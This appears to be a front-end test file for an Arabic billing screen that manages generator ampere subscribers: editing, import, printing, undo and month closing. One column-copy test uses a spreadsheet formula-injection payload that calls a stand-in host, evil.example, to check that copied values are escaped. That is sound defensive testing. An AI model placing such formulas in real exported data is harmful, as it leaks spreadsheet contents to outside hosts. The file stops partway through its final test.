import { screen, waitFor, within } from '@testing-library/react';
import { parse as parseDelimited } from 'papaparse';
import { reloadPage } from '../../../lib/browser-location';
import { ampereInvoice, ampereRecord } from '../../../test/ampere-fixtures';
import { mockFetch, operator, type FakeRoute } from '../../../test/mock-fetch';
import { renderApp } from '../../../test/render-app';
import { statementFixture } from '../../../test/statement-fixtures';
import { RELOAD_AFTER_CREATE_MS } from '../lib/sort-preference';
import { TEST_PUBLIC_ADDRESS, withPublicAddress } from '../../../test/public-address';

// Messages sent out carry the portal's link at the address customers reach.
withPublicAddress();

jest.mock('../../../lib/browser-location', () => ({ redirectBrowser: jest.fn(), reloadPage: jest.fn() }));
const reload = jest.mocked(reloadPage);

const first = ampereRecord({ customerNumber: 1000, name: 'محمد علي', box: '5', ampere: 3, amount: 45 });
const second = ampereRecord({
  customerNumber: 1001,
  name: 'فاطمة حداد',
  box: '12',
  ampere: 2,
  amperePrice: 25,
  amount: 50,
  amountPaid: 50,
  outstandingBalance: 0,
  isPaid: true,
  address: 'حي البركة',
});

function setup(routes: Record<string, FakeRoute> = {}, records = [first, second]) {
  const fetchMock = mockFetch({
    'GET /api/auth/user': { status: 200, body: operator },
    'GET /api/ampere-records?sort=number': { status: 200, body: records },
    'GET /api/ampere-records/pricing': {
      status: 200,
      body: { globalPrice: 15, lowPrice: 25, customPriceCount: 0 },
    },
    'GET /api/ampere-records/month': {
      status: 200,
      body: {
        system: 'ampere',
        liveMonth: '2026-11',
        label: 'تشرين الثاني 2026',
        nextMonth: '2026-12',
        nextLabel: 'كانون الأول 2026',
      },
    },
    ...routes,
  });
  const app = renderApp('/ampere');
  return { ...app, fetchMock };
}

function callsTo(fetchMock: jest.Mock, method: string, url: string) {
  return fetchMock.mock.calls.filter(
    ([input, init]) => String(input) === url && (init?.method ?? 'GET') === method,
  );
}

const table = () => screen.findByRole('table', { name: 'سجلات المشتركين' });

afterEach(() => {
  reload.mockReset();
  window.localStorage.clear();
});

describe('the ampere records screen', () => {
  it('greets the operator by email and lists the records the server sent', async () => {
    setup();

    const rows = within(await table()).getAllByRole('row');
    expect(screen.getByText('مرحباً ahmad@example.com')).toBeInTheDocument();
    expect(rows).toHaveLength(3);
    expect(rows[1]).toHaveTextContent('#1000');
    expect(rows[1]).toHaveTextContent('محمد علي');
    expect(rows[1]).toHaveTextContent('$45');
    expect(rows[1]).toHaveTextContent('غير مدفوع');
    expect(rows[2]).toHaveTextContent('$50');
    expect(rows[2]).toHaveTextContent('مدفوع');
    expect(screen.getByText('عميلان')).toBeInTheDocument();
  });

  it('says there are no records when the list is empty', async () => {
    setup({}, []);

    expect(await screen.findByText('لا توجد سجلات')).toBeInTheDocument();
  });

  it('names the month the close button closes and the month it opens', async () => {
    setup();

    expect(
      await screen.findByRole('button', { name: 'إغلاق تشرين الثاني 2026 وبدء كانون الأول 2026' }),
    ).toBeEnabled();
  });

  it('searches on the server and shows the number of results', async () => {
    const { user } = setup({
      'GET /api/ampere-records/search?q=%D9%81%D8%A7%D8%B7%D9%85%D8%A9&sort=number': {
        status: 200,
        body: [second],
      },
    });
    await table();

    await user.type(screen.getByRole('searchbox', { name: 'بحث في السجلات' }), 'فاطمة');

    expect(await screen.findByText('نتيجة واحدة')).toBeInTheDocument();
    expect(within(await table()).getAllByRole('row')).toHaveLength(2);
    await user.click(screen.getByRole('button', { name: 'مسح البحث' }));
    await waitFor(() => expect(within(screen.getByRole('table')).getAllByRole('row')).toHaveLength(3));
  });

  it('says so when a search finds nothing', async () => {
    const { user } = setup({ 'GET /api/ampere-records/search?q=zzz&sort=number': { status: 200, body: {} } });
    await table();

    await user.type(screen.getByRole('searchbox'), 'zzz');

    expect(await screen.findByText('لا توجد نتائج للبحث')).toBeInTheDocument();
  });
});

describe('editing a cell in place', () => {
  it('sends only that field on Enter, the number parsed as a decimal', async () => {
    const saved = { ...first, ampere: 4.5, amount: 67.5 };
    let records = [first, second];
    const { user, fetchMock } = setup({
      'GET /api/ampere-records?sort=number': () => ({ status: 200, body: records }),
      'PATCH /api/ampere-records/rec-1000': () => {
        records = [saved, second];
        return { status: 200, body: saved };
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل الأمبير: 3' }));
    const editor = screen.getByRole('textbox', { name: 'تعديل الأمبير' });
    await user.clear(editor);
    await user.type(editor, '4.5{Enter}');

    await waitFor(() => expect(callsTo(fetchMock, 'PATCH', '/api/ampere-records/rec-1000')).toHaveLength(1));
    const [, init] = callsTo(fetchMock, 'PATCH', '/api/ampere-records/rec-1000')[0];
    expect(JSON.parse(init.body)).toEqual({ ampere: 4.5 });
    expect(await screen.findByText('تم تحديث السجل بنجاح')).toBeInTheDocument();
    expect(await screen.findByText('$67.5')).toBeInTheDocument();
  });

  it('clears the box when the text is emptied', async () => {
    const { user, fetchMock } = setup({
      'PATCH /api/ampere-records/rec-1000': { status: 200, body: { ...first, box: null } },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل العلبة: 5' }));
    await user.clear(screen.getByRole('textbox', { name: 'تعديل العلبة' }));
    await user.keyboard('{Enter}');

    await waitFor(() => expect(callsTo(fetchMock, 'PATCH', '/api/ampere-records/rec-1000')).toHaveLength(1));
    expect(JSON.parse(callsTo(fetchMock, 'PATCH', '/api/ampere-records/rec-1000')[0][1].body)).toEqual({
      box: null,
    });
  });

  it('cancels on Escape without calling the server', async () => {
    const { user, fetchMock } = setup();
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل الاسم: محمد علي' }));
    await user.type(screen.getByRole('textbox', { name: 'تعديل الاسم' }), ' الجديد{Escape}');

    expect(screen.queryByRole('textbox', { name: 'تعديل الاسم' })).not.toBeInTheDocument();
    expect(screen.getByRole('button', { name: 'تعديل الاسم: محمد علي' })).toBeInTheDocument();
    expect(fetchMock.mock.calls.some(([, init]) => init?.method === 'PATCH')).toBe(false);
  });

  it("shows the server's reason when it refuses", async () => {
    const { user } = setup({
      'PATCH /api/ampere-records/rec-1000': { status: 400, body: { message: 'قيمة الأمبير كبيرة جداً' } },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل الأمبير: 3' }));
    await user.type(screen.getByRole('textbox', { name: 'تعديل الأمبير' }), '00000{Enter}');

    const toast = await screen.findByText('فشل في تحديث السجل');
    expect(toast.parentElement).toHaveTextContent('قيمة الأمبير كبيرة جداً');
  });

  it('keeps the cell in edit mode with what was typed when the save fails, ready to try again', async () => {
    let answer = { status: 500, body: 'boom' } as { status: number; body: unknown };
    const { user, fetchMock } = setup({
      'PATCH /api/ampere-records/rec-1000': () => answer,
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل العنوان: الشارع العام' }));
    const editor = screen.getByRole('textbox', { name: 'تعديل العنوان' });
    await user.clear(editor);
    await user.type(editor, 'Hamra st. 12{Enter}');

    expect(await screen.findByText('فشل في تحديث السجل')).toBeInTheDocument();
    await waitFor(() => expect(screen.getByRole('textbox', { name: 'تعديل العنوان' })).toHaveFocus());
    expect(screen.getByRole('textbox', { name: 'تعديل العنوان' })).toHaveValue('Hamra st. 12');

    answer = { status: 200, body: { ...first, address: 'Hamra st. 12' } };
    await user.keyboard('{Enter}');
    await waitFor(() =>
      expect(screen.queryByRole('textbox', { name: 'تعديل العنوان' })).not.toBeInTheDocument(),
    );
    expect(callsTo(fetchMock, 'PATCH', '/api/ampere-records/rec-1000')).toHaveLength(2);
  });
});

describe('deleting a record', () => {
  it('asks for confirmation, then deletes', async () => {
    const { user, fetchMock } = setup({
      'DELETE /api/ampere-records/rec-1000': {
        status: 200,
        body: { message: 'تم حذف السجل بنجاح', archivedId: 'a-1' },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'حذف محمد علي' }));
    const dialog = await screen.findByRole('dialog', { name: 'حذف السجل؟' });
    expect(dialog).toHaveTextContent('محمد علي');
    expect(callsTo(fetchMock, 'DELETE', '/api/ampere-records/rec-1000')).toHaveLength(0);
    await user.click(within(dialog).getByRole('button', { name: 'حذف' }));

    expect(await screen.findByText('تم حذف السجل بنجاح')).toBeInTheDocument();
    expect(callsTo(fetchMock, 'DELETE', '/api/ampere-records/rec-1000')).toHaveLength(1);
  });

  it('keeps the record when the operator cancels', async () => {
    const { user, fetchMock } = setup();
    await table();

    await user.click(screen.getByRole('button', { name: 'حذف محمد علي' }));
    await user.click(within(await screen.findByRole('dialog')).getByRole('button', { name: 'إلغاء' }));

    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
    expect(callsTo(fetchMock, 'DELETE', '/api/ampere-records/rec-1000')).toHaveLength(0);
  });
});

describe('copying a column', () => {
  it('writes the column, one value per line, and says so', async () => {
    const { user } = setup();
    await table();

    await user.click(screen.getByRole('button', { name: 'نسخ عمود الاسم' }));

    expect(await navigator.clipboard.readText()).toBe('محمد علي\nفاطمة حداد');
    expect(await screen.findByText('تم نسخ العمود')).toBeInTheDocument();
  });

  it('copies what customers typed as data, numbers still numbers, as a spreadsheet would read the paste', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
    const { user } = setup({}, [
      ampereRecord({ customerNumber: 1000, name: hyperlink, box: '-عميل', address: '+961 3 123456' }),
      ampereRecord({
        customerNumber: 1001,
        name: '@SUM(A1:A9)',
        box: '12',
        address: 'حي البركة',
        amount: 50,
      }),
    ]);
    await table();
    const pasted = async (column: string) => {
      await user.click(screen.getByRole('button', { name: `نسخ عمود ${column}` }));
      const { data, errors } = parseDelimited<(string | number)[]>(await navigator.clipboard.readText(), {
        delimiter: '\t',
        dynamicTyping: true,
      });
      expect(errors).toEqual([]);
      return data.flat();
    };

    expect(await pasted('الاسم')).toEqual([`'${hyperlink}`, "'@SUM(A1:A9)"]);
    expect(await pasted('العلبة')).toEqual(["'-عميل", 12]);
    expect(await pasted('العنوان')).toEqual(["'+961 3 123456", 'حي البركة']);
    expect(await pasted('المبلغ')).toEqual([45, 50]);
  });

  it('says there is nothing to copy when the table is empty', async () => {
    const { user } = setup({}, []);
    await screen.findByText('لا توجد سجلات');

    await user.click(screen.getByRole('button', { name: 'نسخ عمود المبلغ' }));

    expect(await screen.findByText('لا توجد بيانات للنسخ')).toBeInTheDocument();
  });

  it('reports a clipboard that refuses', async () => {
    const { user } = setup();
    await table();
    jest.spyOn(navigator.clipboard, 'writeText').mockRejectedValueOnce(new Error('denied'));

    await user.click(screen.getByRole('button', { name: 'نسخ عمود العلبة' }));

    const toast = await screen.findByText('خطأ في النسخ');
    expect(toast.parentElement).toHaveTextContent('حدث خطأ أثناء نسخ البيانات');
  });
});

describe('the Excel import dialog', () => {
  const preview = {
    rows: [
      {
        line: 1,
        name: 'سمير',
        box: '4',
        ampere: 2,
        amperePrice: 25,
        amount: 50,
        address: 'صور',
        amountPaid: 5,
        phone: '+9613123456',
        action: 'create',
      },
      {
        line: 3,
        name: 'كريم',
        box: '4',
        ampere: 6,
        amperePrice: 15,
        amount: 90,
        address: null,
        amountPaid: 0,
        phone: null,
        action: 'create',
      },
    ],
    skipped: [{ line: 2, text: 'خط', reason: 'عدد الأعمدة أقل من 3' }],
    creates: 2,
    updates: 0,
  };

  it('previews what will be created and what is skipped, then creates the rows', async () => {
    const { user, fetchMock } = setup({
      'POST /api/ampere-records/import-preview': { status: 200, body: preview },
      'POST /api/ampere-records/bulk': { status: 201, body: { created: 1, updated: 1, skipped: [] } },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'استيراد من Excel' }));
    const dialog = await screen.findByRole('dialog', { name: 'استيراد من Excel' });
    expect(within(dialog).getByRole('button', { name: 'إنشاء 0 عميل' })).toBeDisabled();
    await user.click(within(dialog).getByLabelText('البيانات الملصقة'));
    await user.paste('سمير\t4\t2\t\tصور\t5\nخط\nكريم\t4\t6');

    expect(await within(dialog).findByText('صالح للاستيراد: صفان')).toBeInTheDocument();
    expect(within(dialog).getByText('لن يُستورد: سطر واحد')).toBeInTheDocument();
    expect(within(dialog).getByText(/السطر 2: عدد الأعمدة أقل من 3/)).toBeInTheDocument();
    expect(within(dialog).getByRole('table', { name: 'معاينة الصفوف' })).toHaveTextContent('سمير');
    await user.click(within(dialog).getByRole('button', { name: 'إنشاء عميلين' }));

    expect(await screen.findByText('تم إنشاء عميل واحد وتحديث عميل واحد')).toBeInTheDocument();
    const [, init] = callsTo(fetchMock, 'POST', '/api/ampere-records/bulk')[0];
    expect(JSON.parse(init.body)).toEqual({
      records: [
        {
          name: 'سمير',
          box: '4',
          ampere: 2,
          amperePrice: 25,
          address: 'صور',
          amountPaid: 5,
          phone: '+9613123456',
        },
        { name: 'كريم', box: '4', ampere: 6, amperePrice: 15, address: null, amountPaid: 0, phone: null },
      ],
    });
    expect(JSON.parse(callsTo(fetchMock, 'POST', '/api/ampere-records/import-preview')[0][1].body)).toEqual({
      text: 'سمير\t4\t2\t\tصور\t5\nخط\nكريم\t4\t6',
    });
    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
  });

  it('explains a refused import under the bulk-create title', async () => {
    const { user } = setup({
      'POST /api/ampere-records/import-preview': { status: 200, body: preview },
      'POST /api/ampere-records/bulk': { status: 400, body: { message: 'لا توجد بيانات صالحة للإنشاء' } },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'استيراد من Excel' }));
    await user.click(screen.getByLabelText('البيانات الملصقة'));
    await user.paste('سمير\t4\t2');
    await user.click(await screen.findByRole('button', { name: 'إنشاء عميلين' }));

    const toast = await screen.findByText('خطأ');
    expect(toast.parentElement).toHaveTextContent('لا توجد بيانات صالحة للإنشاء');
  });

  it('reloads 100 ms after an import when sorting by box is on', async () => {
    window.localStorage.setItem('ampere-sort-enabled', 'true');
    const { user } = setup({
      'GET /api/ampere-records?sort=box': { status: 200, body: [first, second] },
      'POST /api/ampere-records/import-preview': { status: 200, body: preview },
      'POST /api/ampere-records/bulk': { status: 201, body: { created: 2, updated: 0, skipped: [] } },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'استيراد من Excel' }));
    await user.click(screen.getByLabelText('البيانات الملصقة'));
    await user.paste('سمير\t4\t2');
    await user.click(await screen.findByRole('button', { name: 'إنشاء عميلين' }));
    await screen.findByText('تم إنشاء عميلين');

    await waitFor(() => expect(reload).toHaveBeenCalledTimes(1));
  });
});

describe('the sort toggle', () => {
  it('stores the choice and reloads the page', async () => {
    const { user } = setup();
    await table();

    await user.click(screen.getByRole('checkbox', { name: 'ترتيب حسب رقم العلبة' }));

    expect(window.localStorage.getItem('ampere-sort-enabled')).toBe('true');
    expect(reload).toHaveBeenCalled();
  });
});

describe('the column paste dialog', () => {
  it('cannot be sent empty, and sends the values in the order on screen', async () => {
    const { user, fetchMock } = setup({
      'PATCH /api/ampere-records/column-paste': {
        status: 200,
        body: {
          updated: 1,
          changes: [
            { row: 2, id: 'rec-1001', customerNumber: 1001, name: 'فاطمة حداد', before: '50', after: '10' },
          ],
        },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'لصق عمود' }));
    const dialog = await screen.findByRole('dialog', { name: 'لصق عمود' });
    expect(within(dialog).getByRole('button', { name: 'معاينة التغييرات' })).toBeDisabled();
    await user.selectOptions(within(dialog).getByLabelText('العمود'), 'amountPaid');
    await user.clear(within(dialog).getByLabelText('صف البداية'));
    await user.type(within(dialog).getByLabelText('صف البداية'), '1');
    await user.click(within(dialog).getByLabelText('القيم'));
    await user.paste('10\n');
    await user.click(within(dialog).getByRole('button', { name: 'معاينة التغييرات' }));
    expect(await within(dialog).findByRole('table', { name: 'التغييرات قبل الكتابة' })).toHaveTextContent(
      'فاطمة حداد',
    );
    await user.click(within(dialog).getByRole('button', { name: 'تحديث العمود' }));

    expect(await screen.findByText('تم تحديث سجل واحد')).toBeInTheDocument();
    const pastes = callsTo(fetchMock, 'PATCH', '/api/ampere-records/column-paste');
    expect(JSON.parse(pastes[0][1].body)).toEqual({
      column: 'amountPaid',
      data: ['10'],
      startIndex: 1,
      sort: 'number',
      dryRun: true,
    });
    expect(JSON.parse(pastes[1][1].body)).toEqual({
      column: 'amountPaid',
      data: ['10'],
      startIndex: 1,
      sort: 'number',
    });
  });

  it('is not offered while a search shows only part of the list', async () => {
    const { user } = setup({
      'GET /api/ampere-records/search?q=%D9%81%D8%A7%D8%B7%D9%85%D8%A9&sort=number': {
        status: 200,
        body: [second],
      },
    });
    await table();

    await user.type(screen.getByRole('searchbox', { name: 'بحث في السجلات' }), 'فاطمة');
    await screen.findByText('نتيجة واحدة');

    expect(screen.getByRole('button', { name: 'لصق عمود' })).toBeDisabled();
    await user.click(screen.getByRole('button', { name: 'مسح البحث' }));
    await waitFor(() => expect(screen.getByRole('button', { name: 'لصق عمود' })).toBeEnabled());
  });
});

describe('the print boxes dialog', () => {
  const boxes = [
    { box: '5', customers: 3 },
    { box: '12', customers: 4 },
    { box: '', customers: 1 },
  ];

  it('asks for boxes with customers when nothing is selected', async () => {
    const { user } = setup({ 'GET /api/ampere-records/boxes': { status: 200, body: boxes } });
    const open = jest.spyOn(window, 'open').mockReturnValue(null);
    await table();

    await user.click(screen.getByRole('button', { name: 'طباعة العلب' }));
    const dialog = await screen.findByRole('dialog', { name: 'طباعة فواتير العلب' });
    await within(dialog).findByRole('checkbox', { name: /علبة 5/ });
    await user.click(within(dialog).getByRole('button', { name: 'طباعة 0 فاتورة' }));

    const toast = await screen.findByText('لا توجد سجلات', { selector: '.app-toast-title' });
    expect(toast.parentElement).toHaveTextContent('يرجى اختيار علب تحتوي على عملاء');
    expect(open).not.toHaveBeenCalled();
    open.mockRestore();
  });

  it('opens the chosen boxes in a new window that prints by itself', async () => {
    const { user } = setup({ 'GET /api/ampere-records/boxes': { status: 200, body: boxes } });
    const open = jest.spyOn(window, 'open').mockReturnValue({} as Window);
    await table();

    await user.click(screen.getByRole('button', { name: 'طباعة العلب' }));
    const dialog = await screen.findByRole('dialog', { name: 'طباعة فواتير العلب' });
    await user.click(await within(dialog).findByRole('checkbox', { name: /علبة 12/ }));
    await user.click(within(dialog).getByRole('checkbox', { name: /بدون علبة/ }));
    expect(dialog).toHaveTextContent('العلب المحددة: 2');
    expect(dialog).toHaveTextContent('العملاء: 5');
    await user.click(within(dialog).getByRole('button', { name: 'طباعة 5 فواتير' }));

    expect(open).toHaveBeenCalledWith('/ampere-printable-table?box=12&box=&autoprint=1', '_blank');
    expect(await screen.findByText('تم إعداد الطباعة')).toBeInTheDocument();
    open.mockRestore();
  });

  it('says when the browser blocked the print window and prints in this tab instead', async () => {
    const { user } = setup({
      'GET /api/ampere-records/boxes': { status: 200, body: boxes },
      'GET /api/ampere-records/invoices?box=5': { status: 200, body: [] },
    });
    const open = jest.spyOn(window, 'open').mockReturnValue(null);
    await table();

    await user.click(screen.getByRole('button', { name: 'طباعة العلب' }));
    const dialog = await screen.findByRole('dialog', { name: 'طباعة فواتير العلب' });
    await user.click(await within(dialog).findByRole('checkbox', { name: /علبة 5/ }));
    await user.click(within(dialog).getByRole('button', { name: 'طباعة 3 فواتير' }));

    const alert = await within(dialog).findByRole('alert');
    expect(alert).toHaveTextContent('منع المتصفح فتح نافذة الطباعة');
    await user.click(within(alert).getByRole('button', { name: 'الطباعة في هذه الصفحة' }));
    expect(await screen.findByRole('heading', { name: 'الفواتير القابلة للطباعة' })).toBeInTheDocument();
    open.mockRestore();
  });

  it('selects every box at once', async () => {
    const { user } = setup({ 'GET /api/ampere-records/boxes': { status: 200, body: boxes } });
    await table();

    await user.click(screen.getByRole('button', { name: 'طباعة العلب' }));
    const dialog = await screen.findByRole('dialog', { name: 'طباعة فواتير العلب' });
    await user.click(await within(dialog).findByRole('checkbox', { name: 'تحديد الكل' }));

    expect(within(dialog).getByRole('button', { name: 'طباعة 8 فواتير' })).toBeInTheDocument();
  });
});

describe('the bulk tools', () => {
  it('says whose change the undo takes back (kind, who, when, rows) and undoes that one only', async () => {
    const { user, fetchMock } = setup({
      'GET /api/ampere-records/undo-last-batch': {
        status: 200,
        body: {
          batchId: '7d0c9a52-1111-4222-8333-944444444444',
          kind: 'import',
          createdBy: 'rania@example.com',
          createdAt: '2026-11-20T08:30:00.000Z',
          createdCount: 2,
          updatedCount: 1,
        },
      },
      'DELETE /api/ampere-records/undo-last-batch?batchId=7d0c9a52-1111-4222-8333-944444444444': {
        status: 200,
        body: { deletedCount: 2, revertedCount: 1, message: 'تم التراجع بنجاح' },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تراجع عن آخر عملية' }));
    const dialog = await screen.findByRole('dialog', { name: 'التراجع عن آخر عملية؟' });
    expect(dialog).toHaveTextContent('سيتم التراجع عن استيراد قام به');
    expect(dialog).toHaveTextContent('rania@example.com');
    expect(dialog).toHaveTextContent('2026');
    expect(dialog).toHaveTextContent('حذف عميلين أضافهم');
    expect(dialog).toHaveTextContent('إعادة عميل واحد إلى قيمهم السابقة');
    await user.click(within(dialog).getByRole('button', { name: 'تراجع' }));

    await screen.findByText('تم التراجع بنجاح');
    expect(fetchMock).toHaveBeenCalledWith(
      '/api/ampere-records/undo-last-batch?batchId=7d0c9a52-1111-4222-8333-944444444444',
      expect.objectContaining({ method: 'DELETE' }),
    );
  });

  it('says so, without asking, when there is nothing to undo', async () => {
    const { user } = setup({
      'GET /api/ampere-records/undo-last-batch': {
        status: 404,
        body: { message: 'لا توجد عملية للتراجع عنها' },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تراجع عن آخر عملية' }));

    const toast = await screen.findByText('خطأ في التراجع');
    expect(toast.parentElement).toHaveTextContent('لا توجد عملية للتراجع عنها');
    expect(screen.queryByRole('dialog', { name: 'التراجع عن آخر عملية؟' })).not.toBeInTheDocument();
  });

  it('changes all prices from the current ones', async () => {
    const { user, fetchMock } = setup({
      'PATCH /api/ampere-records/update-all-prices': {
        status: 200,
        body: { message: 'تم تحديث سجلين', updated: 2, keptCustom: 0 },
      },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تغيير الأسعار' }));
    const dialog = await screen.findByRole('dialog', { name: 'تغيير الأسعار' });
    const global = within(dialog).getByLabelText('السعر العام (أكثر من 2 أمبير)');
    await waitFor(() => expect(global).toHaveValue('15'));
    expect(within(dialog).getByLabelText('السعر الخاص (2 أمبير أو أقل)')).toHaveValue('25');
    await user.clear(global);
    await user.type(global, '17.5');
    await user.click(within(dialog).getByRole('button', { name: 'تحديث الأسعار' }));

    expect(await screen.findByText('تم تحديث الأسعار بنجاح')).toBeInTheDocument();
    const [, init] = callsTo(fetchMock, 'PATCH', '/api/ampere-records/update-all-prices')[0];
    expect(JSON.parse(init.body)).toEqual({ globalPrice: 17.5, lowPrice: 25 });
  });

  it('names the month being closed and warns it cannot be undone', async () => {
    const { user, fetchMock } = setup({
      'POST /api/ampere-records/new-month': { status: 409, body: { message: 'تم إغلاق هذا الشهر مسبقاً' } },
    });
    await table();

    await user.click(await screen.findByRole('button', { name: /^إغلاق تشرين الثاني 2026/ }));
    const dialog = await screen.findByRole('dialog', { name: 'بدء شهر جديد؟' });
    expect(dialog).toHaveTextContent('سيتم إغلاق شهر تشرين الثاني 2026');
    expect(dialog).toHaveTextContent('ويبدأ شهر كانون الأول 2026');
    expect(dialog).toHaveTextContent('لا يمكن التراجع عن هذه العملية');
    await user.click(within(dialog).getByRole('button', { name: 'بدء الشهر الجديد' }));

    const toast = await screen.findByText('فشل في بدء الشهر الجديد');
    expect(toast.parentElement).toHaveTextContent('تم إغلاق هذا الشهر مسبقاً');
    const closes = callsTo(fetchMock, 'POST', '/api/ampere-records/new-month');
    expect(closes).toHaveLength(1);
    // The month the operator confirmed, so a concurrent close cannot make this one close the next month.
    expect(JSON.parse(closes[0][1].body)).toEqual({ month: '2026-11' });
  });
});

describe('adding a customer', () => {
  it('sends the form without a price so the server applies the threshold price', async () => {
    const { user, fetchMock } = setup({
      'POST /api/ampere-records': { status: 201, body: ampereRecord({ customerNumber: 1002, name: 'سامي' }) },
    });
    await table();

    const form = screen.getByRole('form', { name: 'إضافة عميل' });
    expect(within(form).getByLabelText('الأمبير')).toHaveValue('0');
    expect(within(form).getByLabelText('سعر الأمبير')).toHaveAttribute(
      'placeholder',
      expect.stringContaining('حتى 2 أمبير'),
    );
    await user.type(within(form).getByLabelText('الاسم'), 'سامي');
    await user.type(within(form).getByLabelText('رقم العلبة'), '7');
    await user.clear(within(form).getByLabelText('الأمبير'));
    await user.type(within(form).getByLabelText('الأمبير'), '2.5');
    await user.type(within(form).getByLabelText('رقم الهاتف'), '٧١ ١٢٣ ٤٥٦');
    await user.click(within(form).getByRole('button', { name: 'إضافة' }));

    expect(await screen.findByText(/^تم إنشاء السجل بنجاح: رقم العميل/)).toBeInTheDocument();
    expect(JSON.parse(callsTo(fetchMock, 'POST', '/api/ampere-records')[0][1].body)).toEqual({
      name: 'سامي',
      box: '7',
      ampere: 2.5,
      amperePrice: null,
      address: null,
      phone: '+96171123456',
    });
    expect(within(form).getByLabelText('الاسم')).toHaveValue('');
    expect(reload).not.toHaveBeenCalled();
  });

  it('says a phone that is not a Lebanese number is not valid, and sends nothing', async () => {
    const { user, fetchMock } = setup();
    await table();
    const form = screen.getByRole('form', { name: 'إضافة عميل' });
    await user.type(within(form).getByLabelText('الاسم'), 'سامي');
    await user.type(within(form).getByLabelText('رقم الهاتف'), '12345');

    await user.click(within(form).getByRole('button', { name: 'إضافة' }));

    expect(within(form).getByLabelText('رقم الهاتف')).toBeInvalid();
    expect(within(form).getByText('رقم الهاتف غير صالح')).toBeVisible();
    expect(callsTo(fetchMock, 'POST', '/api/ampere-records')).toHaveLength(0);
  });

  it('asks for a name before sending', async () => {
    const { user, fetchMock } = setup();
    await table();

    await user.click(screen.getByRole('button', { name: 'إضافة' }));

    expect(screen.getByText('الاسم مطلوب')).toBeVisible();
    expect(callsTo(fetchMock, 'POST', '/api/ampere-records')).toHaveLength(0);
  });

  it('reloads 100 ms after creating when sorting by box is on', async () => {
    window.localStorage.setItem('ampere-sort-enabled', 'true');
    const { user } = setup({
      'GET /api/ampere-records?sort=box': { status: 200, body: [first] },
      'POST /api/ampere-records': { status: 201, body: ampereRecord({ customerNumber: 1002, name: 'سامي' }) },
    });
    await table();
    await user.type(screen.getByLabelText('الاسم'), 'سامي');

    await user.click(screen.getByRole('button', { name: 'إضافة' }));
    await screen.findByText(/^تم إنشاء السجل بنجاح: رقم العميل/);

    expect(RELOAD_AFTER_CREATE_MS).toBe(100);
    await waitFor(() => expect(reload).toHaveBeenCalledTimes(1));
  });
});

describe('the edit dialog', () => {
  it('saves every field of the record but the untouched price, and closes', async () => {
    const { user, fetchMock } = setup({
      'PATCH /api/ampere-records/rec-1000': { status: 200, body: { ...first, amountPaid: 45, isPaid: true } },
    });
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل محمد علي' }));
    const dialog = await screen.findByRole('dialog', { name: /تعديل السجل/ });
    await user.clear(within(dialog).getByLabelText('المبلغ المدفوع'));
    await user.type(within(dialog).getByLabelText('المبلغ المدفوع'), '45');
    await user.click(within(dialog).getByRole('button', { name: 'حفظ' }));

    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
    expect(JSON.parse(callsTo(fetchMock, 'PATCH', '/api/ampere-records/rec-1000')[0][1].body)).toEqual({
      name: 'محمد علي',
      box: '5',
      ampere: 3,
      address: 'الشارع العام',
      amountPaid: 45,
      phone: null,
    });
  });

  it("shows the customer's phone as people write it, and sends a changed one", async () => {
    const { user, fetchMock } = setup(
      { 'PATCH /api/ampere-records/rec-1000': { status: 200, body: { ...first, phone: '+9611234567' } } },
      [{ ...first, phone: '+9613123456' }],
    );
    await table();

    await user.click(screen.getByRole('button', { name: 'تعديل محمد علي' }));
    const dialog = await screen.findByRole('dialog', { name: /تعديل السجل/ });
    expect(within(dialog).getByLabelText('رقم الهاتف')).toHaveValue('03 123 456');
    await user.clear(within(dialog).getByLabelText('رقم الهاتف'));
    await user.type(within(dialog).getByLabelText('رقم الهاتف'), '01-234567');
    await user.click(within(dialog).getByRole('button', { name: 'حفظ' }));

    await waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
    expect(JSON.parse(callsTo(fetchMock, 'PATCH', '/api/ampere-records/rec-1000')[0][1].body)).toMatchObject({
      phone: '+9611234567',
    });
  });
  it('names the phone cell by the phone as shown and starts its editor from it', async () => {
    const { user } = setup({}, [{ ...first, phone: '+9613123456' }]);
    await table();

    const cell = screen.getByRole('button', { name: 'تعديل الهاتف: 03 123 456' });
    expect(cell).toHaveTextContent('03 123 456');
    await user.click(cell);
    expect(screen.getByRole('textbox', { name: 'تعديل الهاتف' })).toHaveValue('03 123 456');
  });
});

describe('the phone on the records table', () => {
  // the statement of the customer on the 26th: December by the 25th rule, $75 carried in,
  // $20 paid: $205 due, in pounds 18,347,500 (while the list still says November and $45).
  const statement = statementFixture({
    phone: '+9613123456',
    whatsApp: true,
    month: '2026-12',
    monthLabel: 'كانون الأول 2026',
    previousBalance: 75,
    totalDue: 205,
    lbp: { ...statementFixture().lbp, previousBalance: 6_712_500, totalDue: 18_347_500 },
  });
  const invoiceRoute = {
    'GET /api/ampere-records/rec-1000/invoice': {
      status: 200,
      body: ampereInvoice({ statement }),
    },
  };
  /** A tab the button opens within the click (jsdom opens none). */
  function fakeTab() {
    const tab = { opener: {} as unknown, location: { href: '' }, close: jest.fn() };
    jest.spyOn(window, 'open').mockReturnValue(tab as unknown as Window);
    return tab;
  }
  afterEach(() => jest.restoreAllMocks());

  it("sends from the row exactly the invoice page's WhatsApp text: numbers, the statement's month, dollars and pounds", async () => {
    mockFetch({ 'GET /api/auth/user': { status: 200, body: operator }, ...invoiceRoute });
    const invoicePage = renderApp('/invoice?id=rec-1000');
